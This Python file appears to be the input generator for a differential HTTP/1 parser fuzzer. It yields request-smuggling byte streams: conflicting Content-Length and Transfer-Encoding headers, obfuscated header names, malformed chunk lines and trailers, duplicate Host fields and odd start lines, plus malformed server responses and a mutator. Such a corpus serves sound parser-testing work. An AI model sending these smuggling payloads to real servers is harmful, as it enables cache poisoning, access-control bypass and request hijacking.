# SPDX-License-Identifier: MIT
"""Byte streams that are known to part two readers of HTTP/1, and mutations of plain ones. What each
means is for h1_oracle.py to say; here they are only made."""
import random

EVIL = b"GET /smuggled HTTP/1.1\r\nHost: h\r\n\r\n"
PROBE = b"GET /probe HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n"
ODD_BYTES = b"\x00\x01\x08\t\n\x0b\x0c\r\x1b \"#%+,-:;@\\_{}\x7f\x80\x85\xa0\xc2\xff"
CHUNKED_OF_EVIL = b"%x\r\n%s\r\n0\r\n\r\n" % (len(EVIL), EVIL)


def post(fields, body):
    return b"POST /attack HTTP/1.1\r\nHost: h\r\n" + fields + b"\r\n" + body


def framings():
    """Both framings at once, twice, or one that only some readers take for one."""
    length = b"Content-Length: %d\r\n"
    whole, none = len(CHUNKED_OF_EVIL), 5  # "0 CRLF CRLF" is 5 bytes
    zero = b"0\r\n\r\n"
    plain = b"Transfer-Encoding: chunked\r\n"
    yield post(length % (len(zero) + len(EVIL)) + plain, zero + EVIL)
    yield post(plain + length % (len(zero) + len(EVIL)), zero + EVIL)
    yield post(length % 4 + plain, CHUNKED_OF_EVIL)
    yield post(length % 0 + plain, CHUNKED_OF_EVIL)
    codings = [
        b"Transfer-Encoding: xchunked", b"Transfer-Encoding : chunked", b"Transfer-Encoding:\tchunked",
        b"Transfer-Encoding: chunked\x0b", b"Transfer-Encoding: \x0bchunked",
        b"Transfer-Encoding: chunked\x0c", b"Transfer-Encoding:\x0cchunked",
        b" Transfer-Encoding: chunked", b"X: y\r\n Transfer-Encoding: chunked",
        b"X: y\nTransfer-Encoding: chunked", b"X: y\rTransfer-Encoding: chunked",
        b"Transfer-Encoding\r\n : chunked", b"Transfer-Encoding:\r\n chunked",
        b"Transfer-Encoding: chunked\r\n\tidentity", b"Transfer-Encoding: chunked, identity",
        b"Transfer-Encoding: identity, chunked", b"Transfer-Encoding: identity",
        b"Transfer-Encoding: chunked, chunked", b"Transfer-Encoding: gzip, chunked",
        b"Transfer-Encoding: chunked;q=1", b"Transfer-Encoding: \"chunked\"",
        b"Transfer-Encoding: 'chunked'", b"Transfer-Encoding: chunked ", b"Transfer-Encoding: CHUNKED",
        b"Transfer-Encoding: ,chunked", b"Transfer-Encoding: chunked,", b"Transfer-Encoding: ,",
        b"Transfer-Encoding:", b"Transfer-Encoding: chunk", b"Transfer-Encoding: chunkedx",
        b"Transfer-Encoding: \xefchunked", b"Transfer-Encoding: chunked\x00",
        b"Transfer\x00-Encoding: chunked", b"Transfer-Encoding\x00: chunked",
        b"Transfer_Encoding: chunked", b"Transfer-Encod\xc4\xb1ng: chunked",
        b"Transfer-Encoding: chun\xe2\x84\xaaed", b"\xef\xbb\xbfTransfer-Encoding: chunked",
        b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: cow",
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
        b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
        b"Transfer-Encoding\t: chunked", b"Transfer-Encoding\x85: chunked",
        b"transfer-encoding: chunked", b"TRANSFER-ENCODING: chunked", b"Foo: bar\r\n\r\nTransfer-Encoding: chunked",
        b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
        b"Connection: Content-Length\r\nTransfer-Encoding: chunked",
    ]
    for coding in codings:
        yield post(coding + b"\r\n", CHUNKED_OF_EVIL)
        yield post(length % none + coding + b"\r\n", zero + EVIL)
        yield post(coding + b"\r\n" + length % none, zero + EVIL)
        yield post(length % whole + coding + b"\r\n", CHUNKED_OF_EVIL)
    n = b"%d" % len(EVIL)
    lengths = [
        b"+" + n, b"-" + n, b"-0", b"0x22", n + b"e0", n + b".0", n + b" ", b" " + n, b"\t" + n,
        n + b", " + n, n + b"," + n, n + b",0", b"0," + n, n + b";", n + b" 0", b"0 " + n,
        n + b"\x0b", n + b"\x0c", b"\x0b" + n, b"\x00" + n, n + b"\x00", b"", b" ", b",", b"0" * 40 + n,
        b"1" + b"0" * 25, b"18446744073709551616", b"18446744073709551617",
        b"%d" % ((1 << 64) + len(EVIL)), b"%d" % ((1 << 32) + len(EVIL)), b"9223372036854775807",
        b"9223372036854775808", b"65536", b"\"" + n + b"\"", b"'" + n + b"'", n + b"\xa0", b"\xb2",
        b"0b1", b"0o7", b"1_0", n + b"\r\n 0", n + b"\r\n\t", b"\r\n " + n, b"NaN", b"1e1", b"00",
    ]
    for v in lengths:
        yield post(b"Content-Length: " + v + b"\r\n", EVIL)
    for a, b in ((n, n), (n, b"0"), (b"0", n), (n, b"00" + n), (n, b""), (b"0", b"0")):
        yield post(b"Content-Length: " + a + b"\r\nContent-Length: " + b + b"\r\n", EVIL)
        yield post(b"Content-Length: " + a + b"\r\nX: y\r\ncontent-length: " + b + b"\r\n", EVIL)
    for name in (b"Content-Length ", b"Content-Length\t", b" Content-Length", b"Content_Length",
                 b"Content-Length\x00", b"Content\x00-Length", b"Content Length", b"\x0bContent-Length",
                 b"Content-Length\xa0", b"Conten\xc5\xa3-Length", b"X\r\nContent-Length", b"\rContent-Length"):
        yield post(name + b": " + n + b"\r\n", EVIL)
        yield post(name + b": " + n + b"\r\nContent-Length: 0\r\n", EVIL)
        yield post(b"Content-Length: 0\r\n" + name + b": " + n + b"\r\n", EVIL)
    for method in (b"GET", b"HEAD", b"OPTIONS", b"DELETE", b"TRACE", b"CONNECT", b"PATCH", b"FOO"):
        for target in (b"/attack", b"*", b"h:80", b"http://h/attack", b"http://other/attack"):
            for f, body in ((length % len(EVIL), EVIL), (plain, CHUNKED_OF_EVIL), (b"", b"")):
                yield method + b" " + target + b" HTTP/1.1\r\nHost: h\r\n" + f + b"\r\n" + body
    yield b"POST /attack HTTP/1.0\r\nHost: h\r\nConnection: keep-alive\r\n" + plain + b"\r\n" + CHUNKED_OF_EVIL
    yield b"POST /attack HTTP/1.0\r\nHost: h\r\nConnection: keep-alive\r\n" + length % len(EVIL) + b"\r\n" + EVIL
    yield b"POST /attack HTTP/1.0\r\nConnection: keep-alive\r\n\r\n" + EVIL
    yield b"GET /attack HTTP/1.0\r\n\r\n" + EVIL


def chunk_lines():
    n = b"%x" % len(EVIL)
    sizes = [
        n, n.upper(), b"0" * 8 + n, b"0" * 15 + n, b"0" * 200 + n, b"0x" + n, b"+" + n, b"-" + n,
        b" " + n, n + b" ", n + b"\t", b"\t" + n, n + b";", n + b";a", n + b";a=b", n + b"; a=b",
        n + b" ;a", n + b" ; a = b", n + b";a=\"b\"", n + b";a=\"b;c\"", n + b";a=\"\r\n\"",
        n + b";a=\"\\\"\"", n + b";a=\"", n + b";a=b;c=d", n + b";;", n + b";=", n + b";a=", n + b";\n",
        n + b";a\nb", n + b"\n", n + b"\r", n + b"\r\r", n + b"\n\r", n + b";\x00", n + b"\x00",
        b"\x00" + n, n + b"\x0b", n + b"\x0c", n + b"\xa0", n + b";\xff", n + b";a\x7f", n + b"g", b"g",
        b"", b" ", b"-0", b"0x", b"1" + b"0" * 16, b"f" * 16, b"8" + b"0" * 15, b"7" + b"f" * 15,
        b"1" + b"0" * 15 + n, b"10000000000000000" + n, b"100000000" + n, n + b"," + n, n + b";" + b"x" * 300,
        n + b";" + b"x" * 255, n + b"h", b"{" + n, b"'" + n, b"%" + n, b"\xef\xbb\xbf" + n,
        n + b";a\r", n + b";\r\r", n + b" \r", n + b";a=b\r\r",
    ]
    for s in sizes:
        yield post(b"Transfer-Encoding: chunked\r\n", s + b"\r\n" + EVIL + b"\r\n0\r\n\r\n")
    ends = [b"", b"\n", b"\r", b"\r\r\n", b"\n\n", b"\n\r", b" \r\n", b"\r\nx", b"\r\n\r\n", b"x\r\n", b"\x00\x00", b"XX"]
    for e in ends:
        yield post(b"Transfer-Encoding: chunked\r\n", n + b"\r\n" + EVIL + e + b"0\r\n\r\n")
    lasts = [
        b"0\r\n", b"0\n\n", b"0\r\n\n", b"0\n\r\n", b"00\r\n\r\n", b"0;x\r\n\r\n", b"0 \r\n\r\n", b"0\r\r\n\r\n",
        b"0\r\n\r", b"0\r\n\rX", b"0\r\nX: y\r\n\r\n", b"0\r\nX: y\n\r\n", b"0\r\nX : y\r\n\r\n",
        b"0\r\nX: y\r\n z\r\n\r\n", b"0\r\nX\r\n\r\n", b"0\r\n: y\r\n\r\n", b"0\r\nX: y\x00\r\n\r\n",
        b"0\r\nContent-Length: 5\r\n\r\n", b"0\r\nTransfer-Encoding: chunked\r\n\r\n", b"0\r\nHost: evil\r\n\r\n",
        b"0\r\ncontent-LENGTH: 5\r\n\r\n", b"0\r\nConnection: close\r\n\r\n", b"0\r\nTrailer: x\r\n\r\n",
        b"0\r\nExpect: 100-continue\r\n\r\n", b"0\r\n" + b"X: y\r\n" * 40 + b"\r\n", b"0\r\nX: " + b"y" * 9000 + b"\r\n\r\n",
        b"0\r\nGET /smuggled HTTP/1.1\r\nHost: h\r\n\r\n", b"0\r\n\r\n\r\n", b"0\r\n\r\n\r\n\r\n", b"00000000000000000\r\n\r\n",
        b"0x0\r\n\r\n", b"-0\r\n\r\n", b"0,\r\n\r\n", b"0\x0b\r\n\r\n",
    ]
    for last in lasts:
        yield post(b"Transfer-Encoding: chunked\r\n", b"3\r\nabc\r\n" + last)
        yield post(b"Transfer-Encoding: chunked\r\nTE: trailers\r\nTrailer: X\r\n", last)


def start_lines():
    lines = [
        b"GET  /attack HTTP/1.1", b"GET /attack  HTTP/1.1", b"GET\t/attack HTTP/1.1", b"GET /attack\tHTTP/1.1",
        b" GET /attack HTTP/1.1", b"GET /attack HTTP/1.1 ", b"GET /attack HTTP/1.1\t", b"GET /attack",
        b"GET /attack HTTP/0.9", b"GET /attack HTTP/1.2", b"GET /attack HTTP/1.9", b"GET /attack HTTP/2.0",
        b"GET /attack HTTP/1.10", b"GET /attack HTTP/01.1", b"GET /attack HTTP/1.", b"GET /attack HTTP/1",
        b"GET /attack HTTP/1,1", b"GET /attack http/1.1", b"GET /attack HTTP /1.1", b"GET /attack HTTP/ 1.1",
        b"GET /attack HTTP/1.1x", b"GET /attack HTTP/+1.1", b"GET /attack HTTP/1.-1", b"GET /attack HTTPS/1.1",
        b"GET /attack RTSP/1.0", b"GET /attack ICY", b"get /attack HTTP/1.1", b"G\x00ET /attack HTTP/1.1",
        b"GE(T /attack HTTP/1.1", b"GET: /attack HTTP/1.1", b"\"GET\" /attack HTTP/1.1", b"G\xc3\x89T /attack HTTP/1.1",
        b"GET /a b HTTP/1.1", b"GET /a\x00b HTTP/1.1", b"GET /a#b HTTP/1.1", b"GET /a\x7f HTTP/1.1", b"GET /\xc3\xa9 HTTP/1.1",
        b"GET /a\rb HTTP/1.1", b"GET /a\nb HTTP/1.1", b"GET attack HTTP/1.1", b"GET ?attack HTTP/1.1", b"GET \\attack HTTP/1.1",
        b"GET //other/attack HTTP/1.1", b"GET /../attack HTTP/1.1", b"GET /%2e%2e/attack HTTP/1.1", b"GET /%00 HTTP/1.1",
        b"GET http://h HTTP/1.1", b"GET http://h?x HTTP/1.1", b"GET http://h:80/attack HTTP/1.1", b"GET HTTP://H/attack HTTP/1.1",
        b"GET http://other/attack HTTP/1.1", b"GET https://h/attack HTTP/1.1", b"GET ftp://h/attack HTTP/1.1",
        b"GET http:///attack HTTP/1.1", b"GET http:/attack HTTP/1.1", b"GET http://u@h/attack HTTP/1.1", b"GET http://h@other/attack HTTP/1.1",
        b"GET http://h\\@other/attack HTTP/1.1", b"GET http://h:99999/attack HTTP/1.1", b"GET http://h:/attack HTTP/1.1",
        b"GET http://[::1]/attack HTTP/1.1", b"GET http://[::1/attack HTTP/1.1", b"GET http://h%00/attack HTTP/1.1", b"GET :80/attack HTTP/1.1",
        b"OPTIONS http://h HTTP/1.1", b"OPTIONS * HTTP/1.1", b"OPTIONS *x HTTP/1.1", b"GET * HTTP/1.1",
        b"CONNECT h:80 HTTP/1.1", b"CONNECT h HTTP/1.1", b"CONNECT /attack HTTP/1.1", b"CONNECT http://h:80/ HTTP/1.1", b"CONNECT h:99999 HTTP/1.1",
        b"CONNECT :80 HTTP/1.1", b"CONNECT u@h:80 HTTP/1.1", b"PRI * HTTP/2.0", b"\r\nGET /attack HTTP/1.1", b"\r\n\r\nGET /attack HTTP/1.1",
        b"\nGET /attack HTTP/1.1", b"\rGET /attack HTTP/1.1", b"\x00GET /attack HTTP/1.1", b"\xef\xbb\xbfGET /attack HTTP/1.1", b"\x16\x03\x01\x02\x00\x01",
        b"HTTP/1.1 200 OK", b"GET /" + b"a" * 15000 + b" HTTP/1.1", b"GET /" + b"a" * 20000 + b" HTTP/1.1", b"A" * 20000 + b" / HTTP/1.1",
    ]
    for line in lines:
        yield line + b"\r\nHost: h\r\n\r\n"
    yield b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
    yield b"GET /attack\r\n\r\n"
    yield b"GET /attack\r\n"
    yield b"\r\n"
    yield b"\r\n\r\n\r\n"


def hosts():
    for h in (b"", b" ", b"h", b"h:80", b"h:", b":80", b"h:99999", b"h:8x", b"h h", b"h,other", b"h\tother", b"h/attack", b"h?x",
              b"u@h", b"h#x", b"h\x00", b"[::1]", b"[::1]:80", b"[::1", b"::1", b"[::1]x", b"[v1.a]", b"h%41", b"h%4", b"\xc3\xa9", b"h\\x",
              b"h;x", b"(h)", b"h'", b"h\"", b"h\r\n other", b"1.2.3.4", b"h..", b"a" * 10000):
        yield b"GET /attack HTTP/1.1\r\nHost: " + h + b"\r\n\r\n"
        yield b"GET /attack HTTP/1.0\r\nHost: " + h + b"\r\n\r\n"
        yield b"GET http://h/attack HTTP/1.1\r\nHost: " + h + b"\r\n\r\n"
    for fields in (b"", b"Host: h\r\nHost: h\r\n", b"Host: h\r\nHost: other\r\n", b"Host: h\r\nhost: other\r\n", b"Host : other\r\n",
                   b"Host : other\r\nHost: h\r\n", b" Host: other\r\nHost: h\r\n", b"Host: h\r\n Host: other\r\n", b"X-Host: o\r\nHost: h\r\n",
                   b"Host\x00: other\r\nHost: h\r\n", b"Ho\x00st: other\r\nHost: h\r\n", b"Host: h\nHost: other\r\n", b"Connection: Host\r\nHost: h\r\n"):
        for target in (b"/attack", b"http://h/attack", b"http://other/attack"):
            yield b"GET " + target + b" HTTP/1.1\r\n" + fields + b"\r\n"
            yield b"GET " + target + b" HTTP/1.0\r\n" + fields + b"\r\n"


def field_lines():
    lines = [
        b"X", b"X ", b":", b": y", b"X:", b"X:y", b"X: y ", b"X : y", b"X\t: y", b" X: y", b"\tX: y", b"X: y\r\n z", b"X: y\r\n\tz",
        b"X: y\r\n ", b"X: \x00", b"X: \x01", b"X: \x7f", b"X: \x80", b"X: \xff", b"X: a\rb", b"X: a\nb", b"X: \r", b"X\xff: y", b"X\x80: y",
        b"X(: y", b"X[: y", b"X{: y", b"X/: y", b"X\\: y", b"X@: y", b"X,: y", b"X;: y", b"X=: y", b"X\": y", b"X<: y", b"!#$%&'*+-.^_`|~: y",
        b"X\x00: y", b"\x00", b"\x01: y", b"=: y", b"X: " + b"y" * 8000, b"X: " + b"y" * 20000, b"X" * 20000 + b": y", b"X" * 70000 + b": y",
        b"\r\n".join(b"X-%d: y" % i for i in range(90)), b"\r\n".join(b"X-%d: y" % i for i in range(200)), b"X: y\r", b"X: y\r\r", b"X: y\n", b"\rX: y",
        b"Connection: close", b"Connection: keep-alive, close", b"Connection: X\r\nX: y", b"Connection: Host", b"Connection: ,,,close,", b"Connection: clo se",
        b"Connection: cl\x00ose", b"Connection: \"close\"", b"Keep-Alive: timeout=1\r\nConnection: keep-alive", b"Proxy-Connection: close",
        b"Connection: Upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA", b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: x",
        b"Connection: Upgrade\r\nUpgrade: websocket", b"Upgrade: websocket", b"Connection: Upgrade", b"Connection: Upgrade\r\nUpgrade: ",
        b"TE: trailers", b"TE: chunked", b"Connection: TE\r\nTE: trailers", b"Trailer: Content-Length", b"Max-Forwards: 0", b"Max-Forwards: -1",
        b"Expect: 100-continue", b"Expect: 100-Continue", b"Expect: 200-ok", b"Expect: x 100-continue", b"Expect:", b"Expect: 100-continue\r\nExpect: 100-continue",
        b"Range: bytes=0-18446744073709551615", b"Content-Length: 0\r\nExpect: 100-continue", b"Content-Range: bytes */0",
    ]
    for line in lines:
        yield b"GET /attack HTTP/1.1\r\nHost: h\r\n" + line + b"\r\n\r\n"
        yield b"GET /attack HTTP/1.1\r\n" + line + b"\r\nHost: h\r\n\r\n"
        yield post(b"Content-Length: %d\r\n" % len(EVIL) + line + b"\r\n", EVIL)
        yield post(line + b"\r\nTransfer-Encoding: chunked\r\n", CHUNKED_OF_EVIL)
        yield b"OPTIONS /attack HTTP/1.0\r\nHost: h\r\n" + line + b"\r\n\r\n"


def requests():
    """The known ones, each followed by a request whose arrival shows that the stream was read on."""
    for made in (framings, chunk_lines, start_lines, hosts, field_lines):
        for stream in made():
            yield stream + PROBE


SEEDS = [
    post(b"Content-Length: %d\r\n" % len(EVIL), EVIL),
    post(b"Transfer-Encoding: chunked\r\n", CHUNKED_OF_EVIL),
    post(b"Transfer-Encoding: chunked\r\nTrailer: T\r\n", b"3;n=\"v\"\r\nabc\r\n0\r\nT: v\r\n\r\n"),
    b"GET /attack HTTP/1.1\r\nHost: h\r\nConnection: close, X\r\nX: y\r\n\r\n",
    b"GET http://h/attack HTTP/1.1\r\nHost: h\r\n\r\n",
    b"HEAD /attack HTTP/1.0\r\nConnection: keep-alive\r\n\r\n",
    b"OPTIONS * HTTP/1.1\r\nHost: h:80\r\nMax-Forwards: 3\r\n\r\n",
    b"PUT /attack HTTP/1.1\r\nHost: h\r\nExpect: 100-continue\r\nContent-Length: 3\r\n\r\nabc",
]


def mutate(rng, stream):
    """One or two bytes changed, put in, taken out; or a piece doubled, moved, or dropped."""
    for _ in range(rng.choice((1, 1, 1, 2))):
        at = rng.randrange(len(stream))
        kind = rng.random()
        if kind < 0.35:
            stream = stream[:at] + bytes([rng.choice(ODD_BYTES)]) + stream[at:]
        elif kind < 0.65:
            stream = stream[:at] + bytes([rng.choice(ODD_BYTES)]) + stream[at + 1:]
        elif kind < 0.75:
            stream = stream[:at] + stream[at + rng.choice((1, 1, 2)):]
        elif kind < 0.85:
            stream = stream[:at] + rng.choice((b"\r\n", b"\n", b"\r", b"\r\n\r\n", b"\r\n ", b": ", b"0")) + stream[at:]
        else:
            lines = stream.split(b"\r\n")
            i, j = rng.randrange(len(lines)), rng.randrange(len(lines))
            lines.insert(i, lines[j])
            if rng.random() < 0.5:
                del lines[rng.randrange(len(lines))]
            stream = b"\r\n".join(lines) or b"\r\n"
    return stream


def mutants(seed, n, seeds):
    rng = random.Random(seed)
    for _ in range(n):
        yield mutate(rng, rng.choice(seeds))


# --- what a hostile or broken server may answer ------------------------------------------------

EVIL_ANSWER = b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\nX-Evil: y\r\n\r\nevil"


def ok(fields, body=b""):
    return b"HTTP/1.1 200 OK\r\n" + fields + b"\r\n" + body


def answer_framings():
    length, plain = b"Content-Length: %d\r\n", b"Transfer-Encoding: chunked\r\n"
    chunked = b"%x\r\n%s\r\n0\r\n\r\n" % (len(EVIL_ANSWER), EVIL_ANSWER)
    n = len(EVIL_ANSWER)
    yield ok(length % n, EVIL_ANSWER)
    yield ok(length % n, EVIL_ANSWER + EVIL_ANSWER)
    yield ok(length % (n + 5), EVIL_ANSWER)
    yield ok(length % 0, EVIL_ANSWER)
    yield ok(b"", EVIL_ANSWER)
    yield ok(b"Connection: close\r\n", EVIL_ANSWER)
    yield ok(plain, chunked)
    yield ok(plain, chunked + EVIL_ANSWER)
    yield ok(plain, chunked[:-2])
    yield ok(plain, b"5\r\nhel")
    yield ok(plain, EVIL_ANSWER)
    for both in (length % 5 + plain, plain + length % 5, length % len(chunked) + plain, length % 0 + plain):
        yield ok(both, chunked)
        yield ok(both, b"0\r\n\r\n" + EVIL_ANSWER)
    for coding in (b"xchunked", b"chunked, identity", b"identity", b"gzip", b"gzip, chunked", b"chunked, chunked", b"CHUNKED", b",chunked",
                   b"chunked\x0b", b"chunked;a=b", b"", b"\"chunked\"", b"chun\xe2\x84\xaaed", b"chunked\r\n ,identity"):
        yield ok(b"Transfer-Encoding: " + coding + b"\r\n", chunked)
        yield ok(length % 5 + b"Transfer-Encoding: " + coding + b"\r\n", b"0\r\n\r\n" + EVIL_ANSWER)
    for name in (b"Transfer-Encoding ", b" Transfer-Encoding", b"Transfer-Encoding\t", b"Transfer_Encoding", b"X: y\nTransfer-Encoding", b"X: y\rTransfer-Encoding"):
        yield ok(name + b": chunked\r\n" + length % 5, b"0\r\n\r\n" + EVIL_ANSWER)
    for v in (b"+%d" % n, b"-1", b"%d, %d" % (n, n), b"%d,0" % n, b"0x10", b"%d " % n, b"1e2", b"", b"18446744073709551616", b"9223372036854775808",
              b"%d\r\nContent-Length: %d" % (n, n), b"%d\r\nContent-Length: 0" % n, b"%d;" % n, b"\"%d\"" % n, b"00%d" % n, b"%d\x00" % n):
        yield ok(b"Content-Length: " + v + b"\r\n", EVIL_ANSWER)
    yield b"HTTP/1.0 200 OK\r\n" + plain + b"\r\n" + chunked
    yield b"HTTP/1.0 200 OK\r\nConnection: keep-alive\r\n" + length % n + b"\r\n" + EVIL_ANSWER


def answer_statuses():
    length, plain = b"Content-Length: %d\r\n" % len(EVIL_ANSWER), b"Transfer-Encoding: chunked\r\n"
    chunked = b"%x\r\n%s\r\n0\r\n\r\n" % (len(EVIL_ANSWER), EVIL_ANSWER)
    for status in (100, 101, 102, 103, 199, 200, 201, 204, 205, 206, 299, 304, 400, 404, 500, 599, 600, 999):
        line = b"HTTP/1.1 %d x\r\n" % status
        for fields, body in ((b"", b""), (length, EVIL_ANSWER), (plain, chunked), (b"", EVIL_ANSWER),
                             (b"Connection: upgrade\r\nUpgrade: websocket\r\n", EVIL_ANSWER)):
            yield line + fields + b"\r\n" + body
            yield line + fields + b"\r\n" + body + ok(b"Content-Length: 2\r\n", b"ok")
    final = ok(b"Content-Length: 2\r\n", b"ok")
    yield b"HTTP/1.1 103 Early Hints\r\nLink: </a>\r\n\r\n" * 300 + final
    yield b"HTTP/1.1 103 Early Hints\r\nConnection: x\r\nx: " + b"y" * 10000 + b"\r\n\r\n" + final
    yield (b"HTTP/1.1 103 Early Hints\r\nConnection: x\r\nx: " + b"y" * 3000 + b"\r\n\r\n") * 60 + final
    yield b"HTTP/1.1 100 Continue\r\nContent-Length: 5\r\n\r\n" + final
    yield b"HTTP/1.1 100 Continue\r\nTransfer-Encoding: chunked\r\n\r\n" + final


def answer_lines():
    final = b"Content-Length: 2\r\n\r\nok"
    for line in (b"HTTP/1.1 200", b"HTTP/1.1 200 ", b"HTTP/1.1  200 OK", b"HTTP/1.1 20 OK", b"HTTP/1.1 2000 OK", b"HTTP/1.1 099 OK", b"HTTP/1.1 +20 OK",
                 b"HTTP/1.1 2x0 OK", b"HTTP/1.1\t200 OK", b"HTTP/1.1 200\tOK", b"HTTP/1.1 200OK", b"HTTP/1.2 200 OK", b"HTTP/1.9 200 OK", b"HTTP/2.0 200 OK",
                 b"HTTP/0.9 200 OK", b"http/1.1 200 OK", b"HTTP/1.1 200 O\x00K", b"HTTP/1.1 200 O\rK", b"HTTP/1.1 200 O\nK", b"HTTP/1.1 200 \xff",
                 b"ICY 200 OK", b"", b"\r\nHTTP/1.1 200 OK", b" HTTP/1.1 200 OK", b"HTTP/1.1 200 OK\r", b"HTTP/1.1 200 OK\n", b"HTTP/1.1 200 " + b"x" * 20000,
                 b"HTTP/1.1 000 x", b"GET / HTTP/1.1", b"\x16\x03\x01\x02\x00"):
        yield line + b"\r\n" + final
    for field in (b"X", b":", b"X : y", b" X: y", b"X: y\r\n z", b"X: \x00", b"X: a\rb", b"X: a\nb", b"X(: y", b"\x00", b"X: " + b"y" * 20000, b"X: y\r",
                  b"Connection: close", b"Connection: X\r\nX: y", b"Connection: Content-Length", b"Keep-Alive: timeout=1", b"Trailer: X", b"Upgrade: h2c",
                  b"\r\n".join(b"X-%d: y" % i for i in range(90)), b"\r\n".join(b"X-%d: y" % i for i in range(500)), b"Set-Cookie: a=b\r\nSet-Cookie: c=d",
                  b"Connection: Set-Cookie\r\nSet-Cookie: a=b", b"Proxy-Connection: keep-alive"):
        yield b"HTTP/1.1 200 OK\r\n" + field + b"\r\n" + final
    yield b""
    yield b"H"
    yield b"HTTP/1.1 200 OK\r\n"
    yield b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r"
    yield b"\0" * 40000
    yield b"A" * 40000


def answer_chunks():
    for stream in chunk_lines():
        yield ok(b"Transfer-Encoding: chunked\r\n", stream.split(b"\r\n\r\n", 1)[1])


def answers():
    for made in (answer_framings, answer_statuses, answer_lines, answer_chunks):
        yield from made()


ANSWER_SEEDS = [
    ok(b"Content-Length: 5\r\nX-A: y\r\n", b"hello"),
    ok(b"Transfer-Encoding: chunked\r\n", b"5;a=b\r\nhello\r\n0\r\nX: y\r\n\r\n"),
    ok(b"Connection: close\r\n", b"hello"),
    b"HTTP/1.1 103 Early Hints\r\nLink: </a>\r\n\r\n" + ok(b"Content-Length: 2\r\n", b"ok"),
    b"HTTP/1.0 200 OK\r\nConnection: keep-alive\r\nContent-Length: 2\r\n\r\nok",
    b"HTTP/1.1 204 No Content\r\n\r\n",
    b"HTTP/1.1 304 Not Modified\r\nContent-Length: 7\r\n\r\n",
]
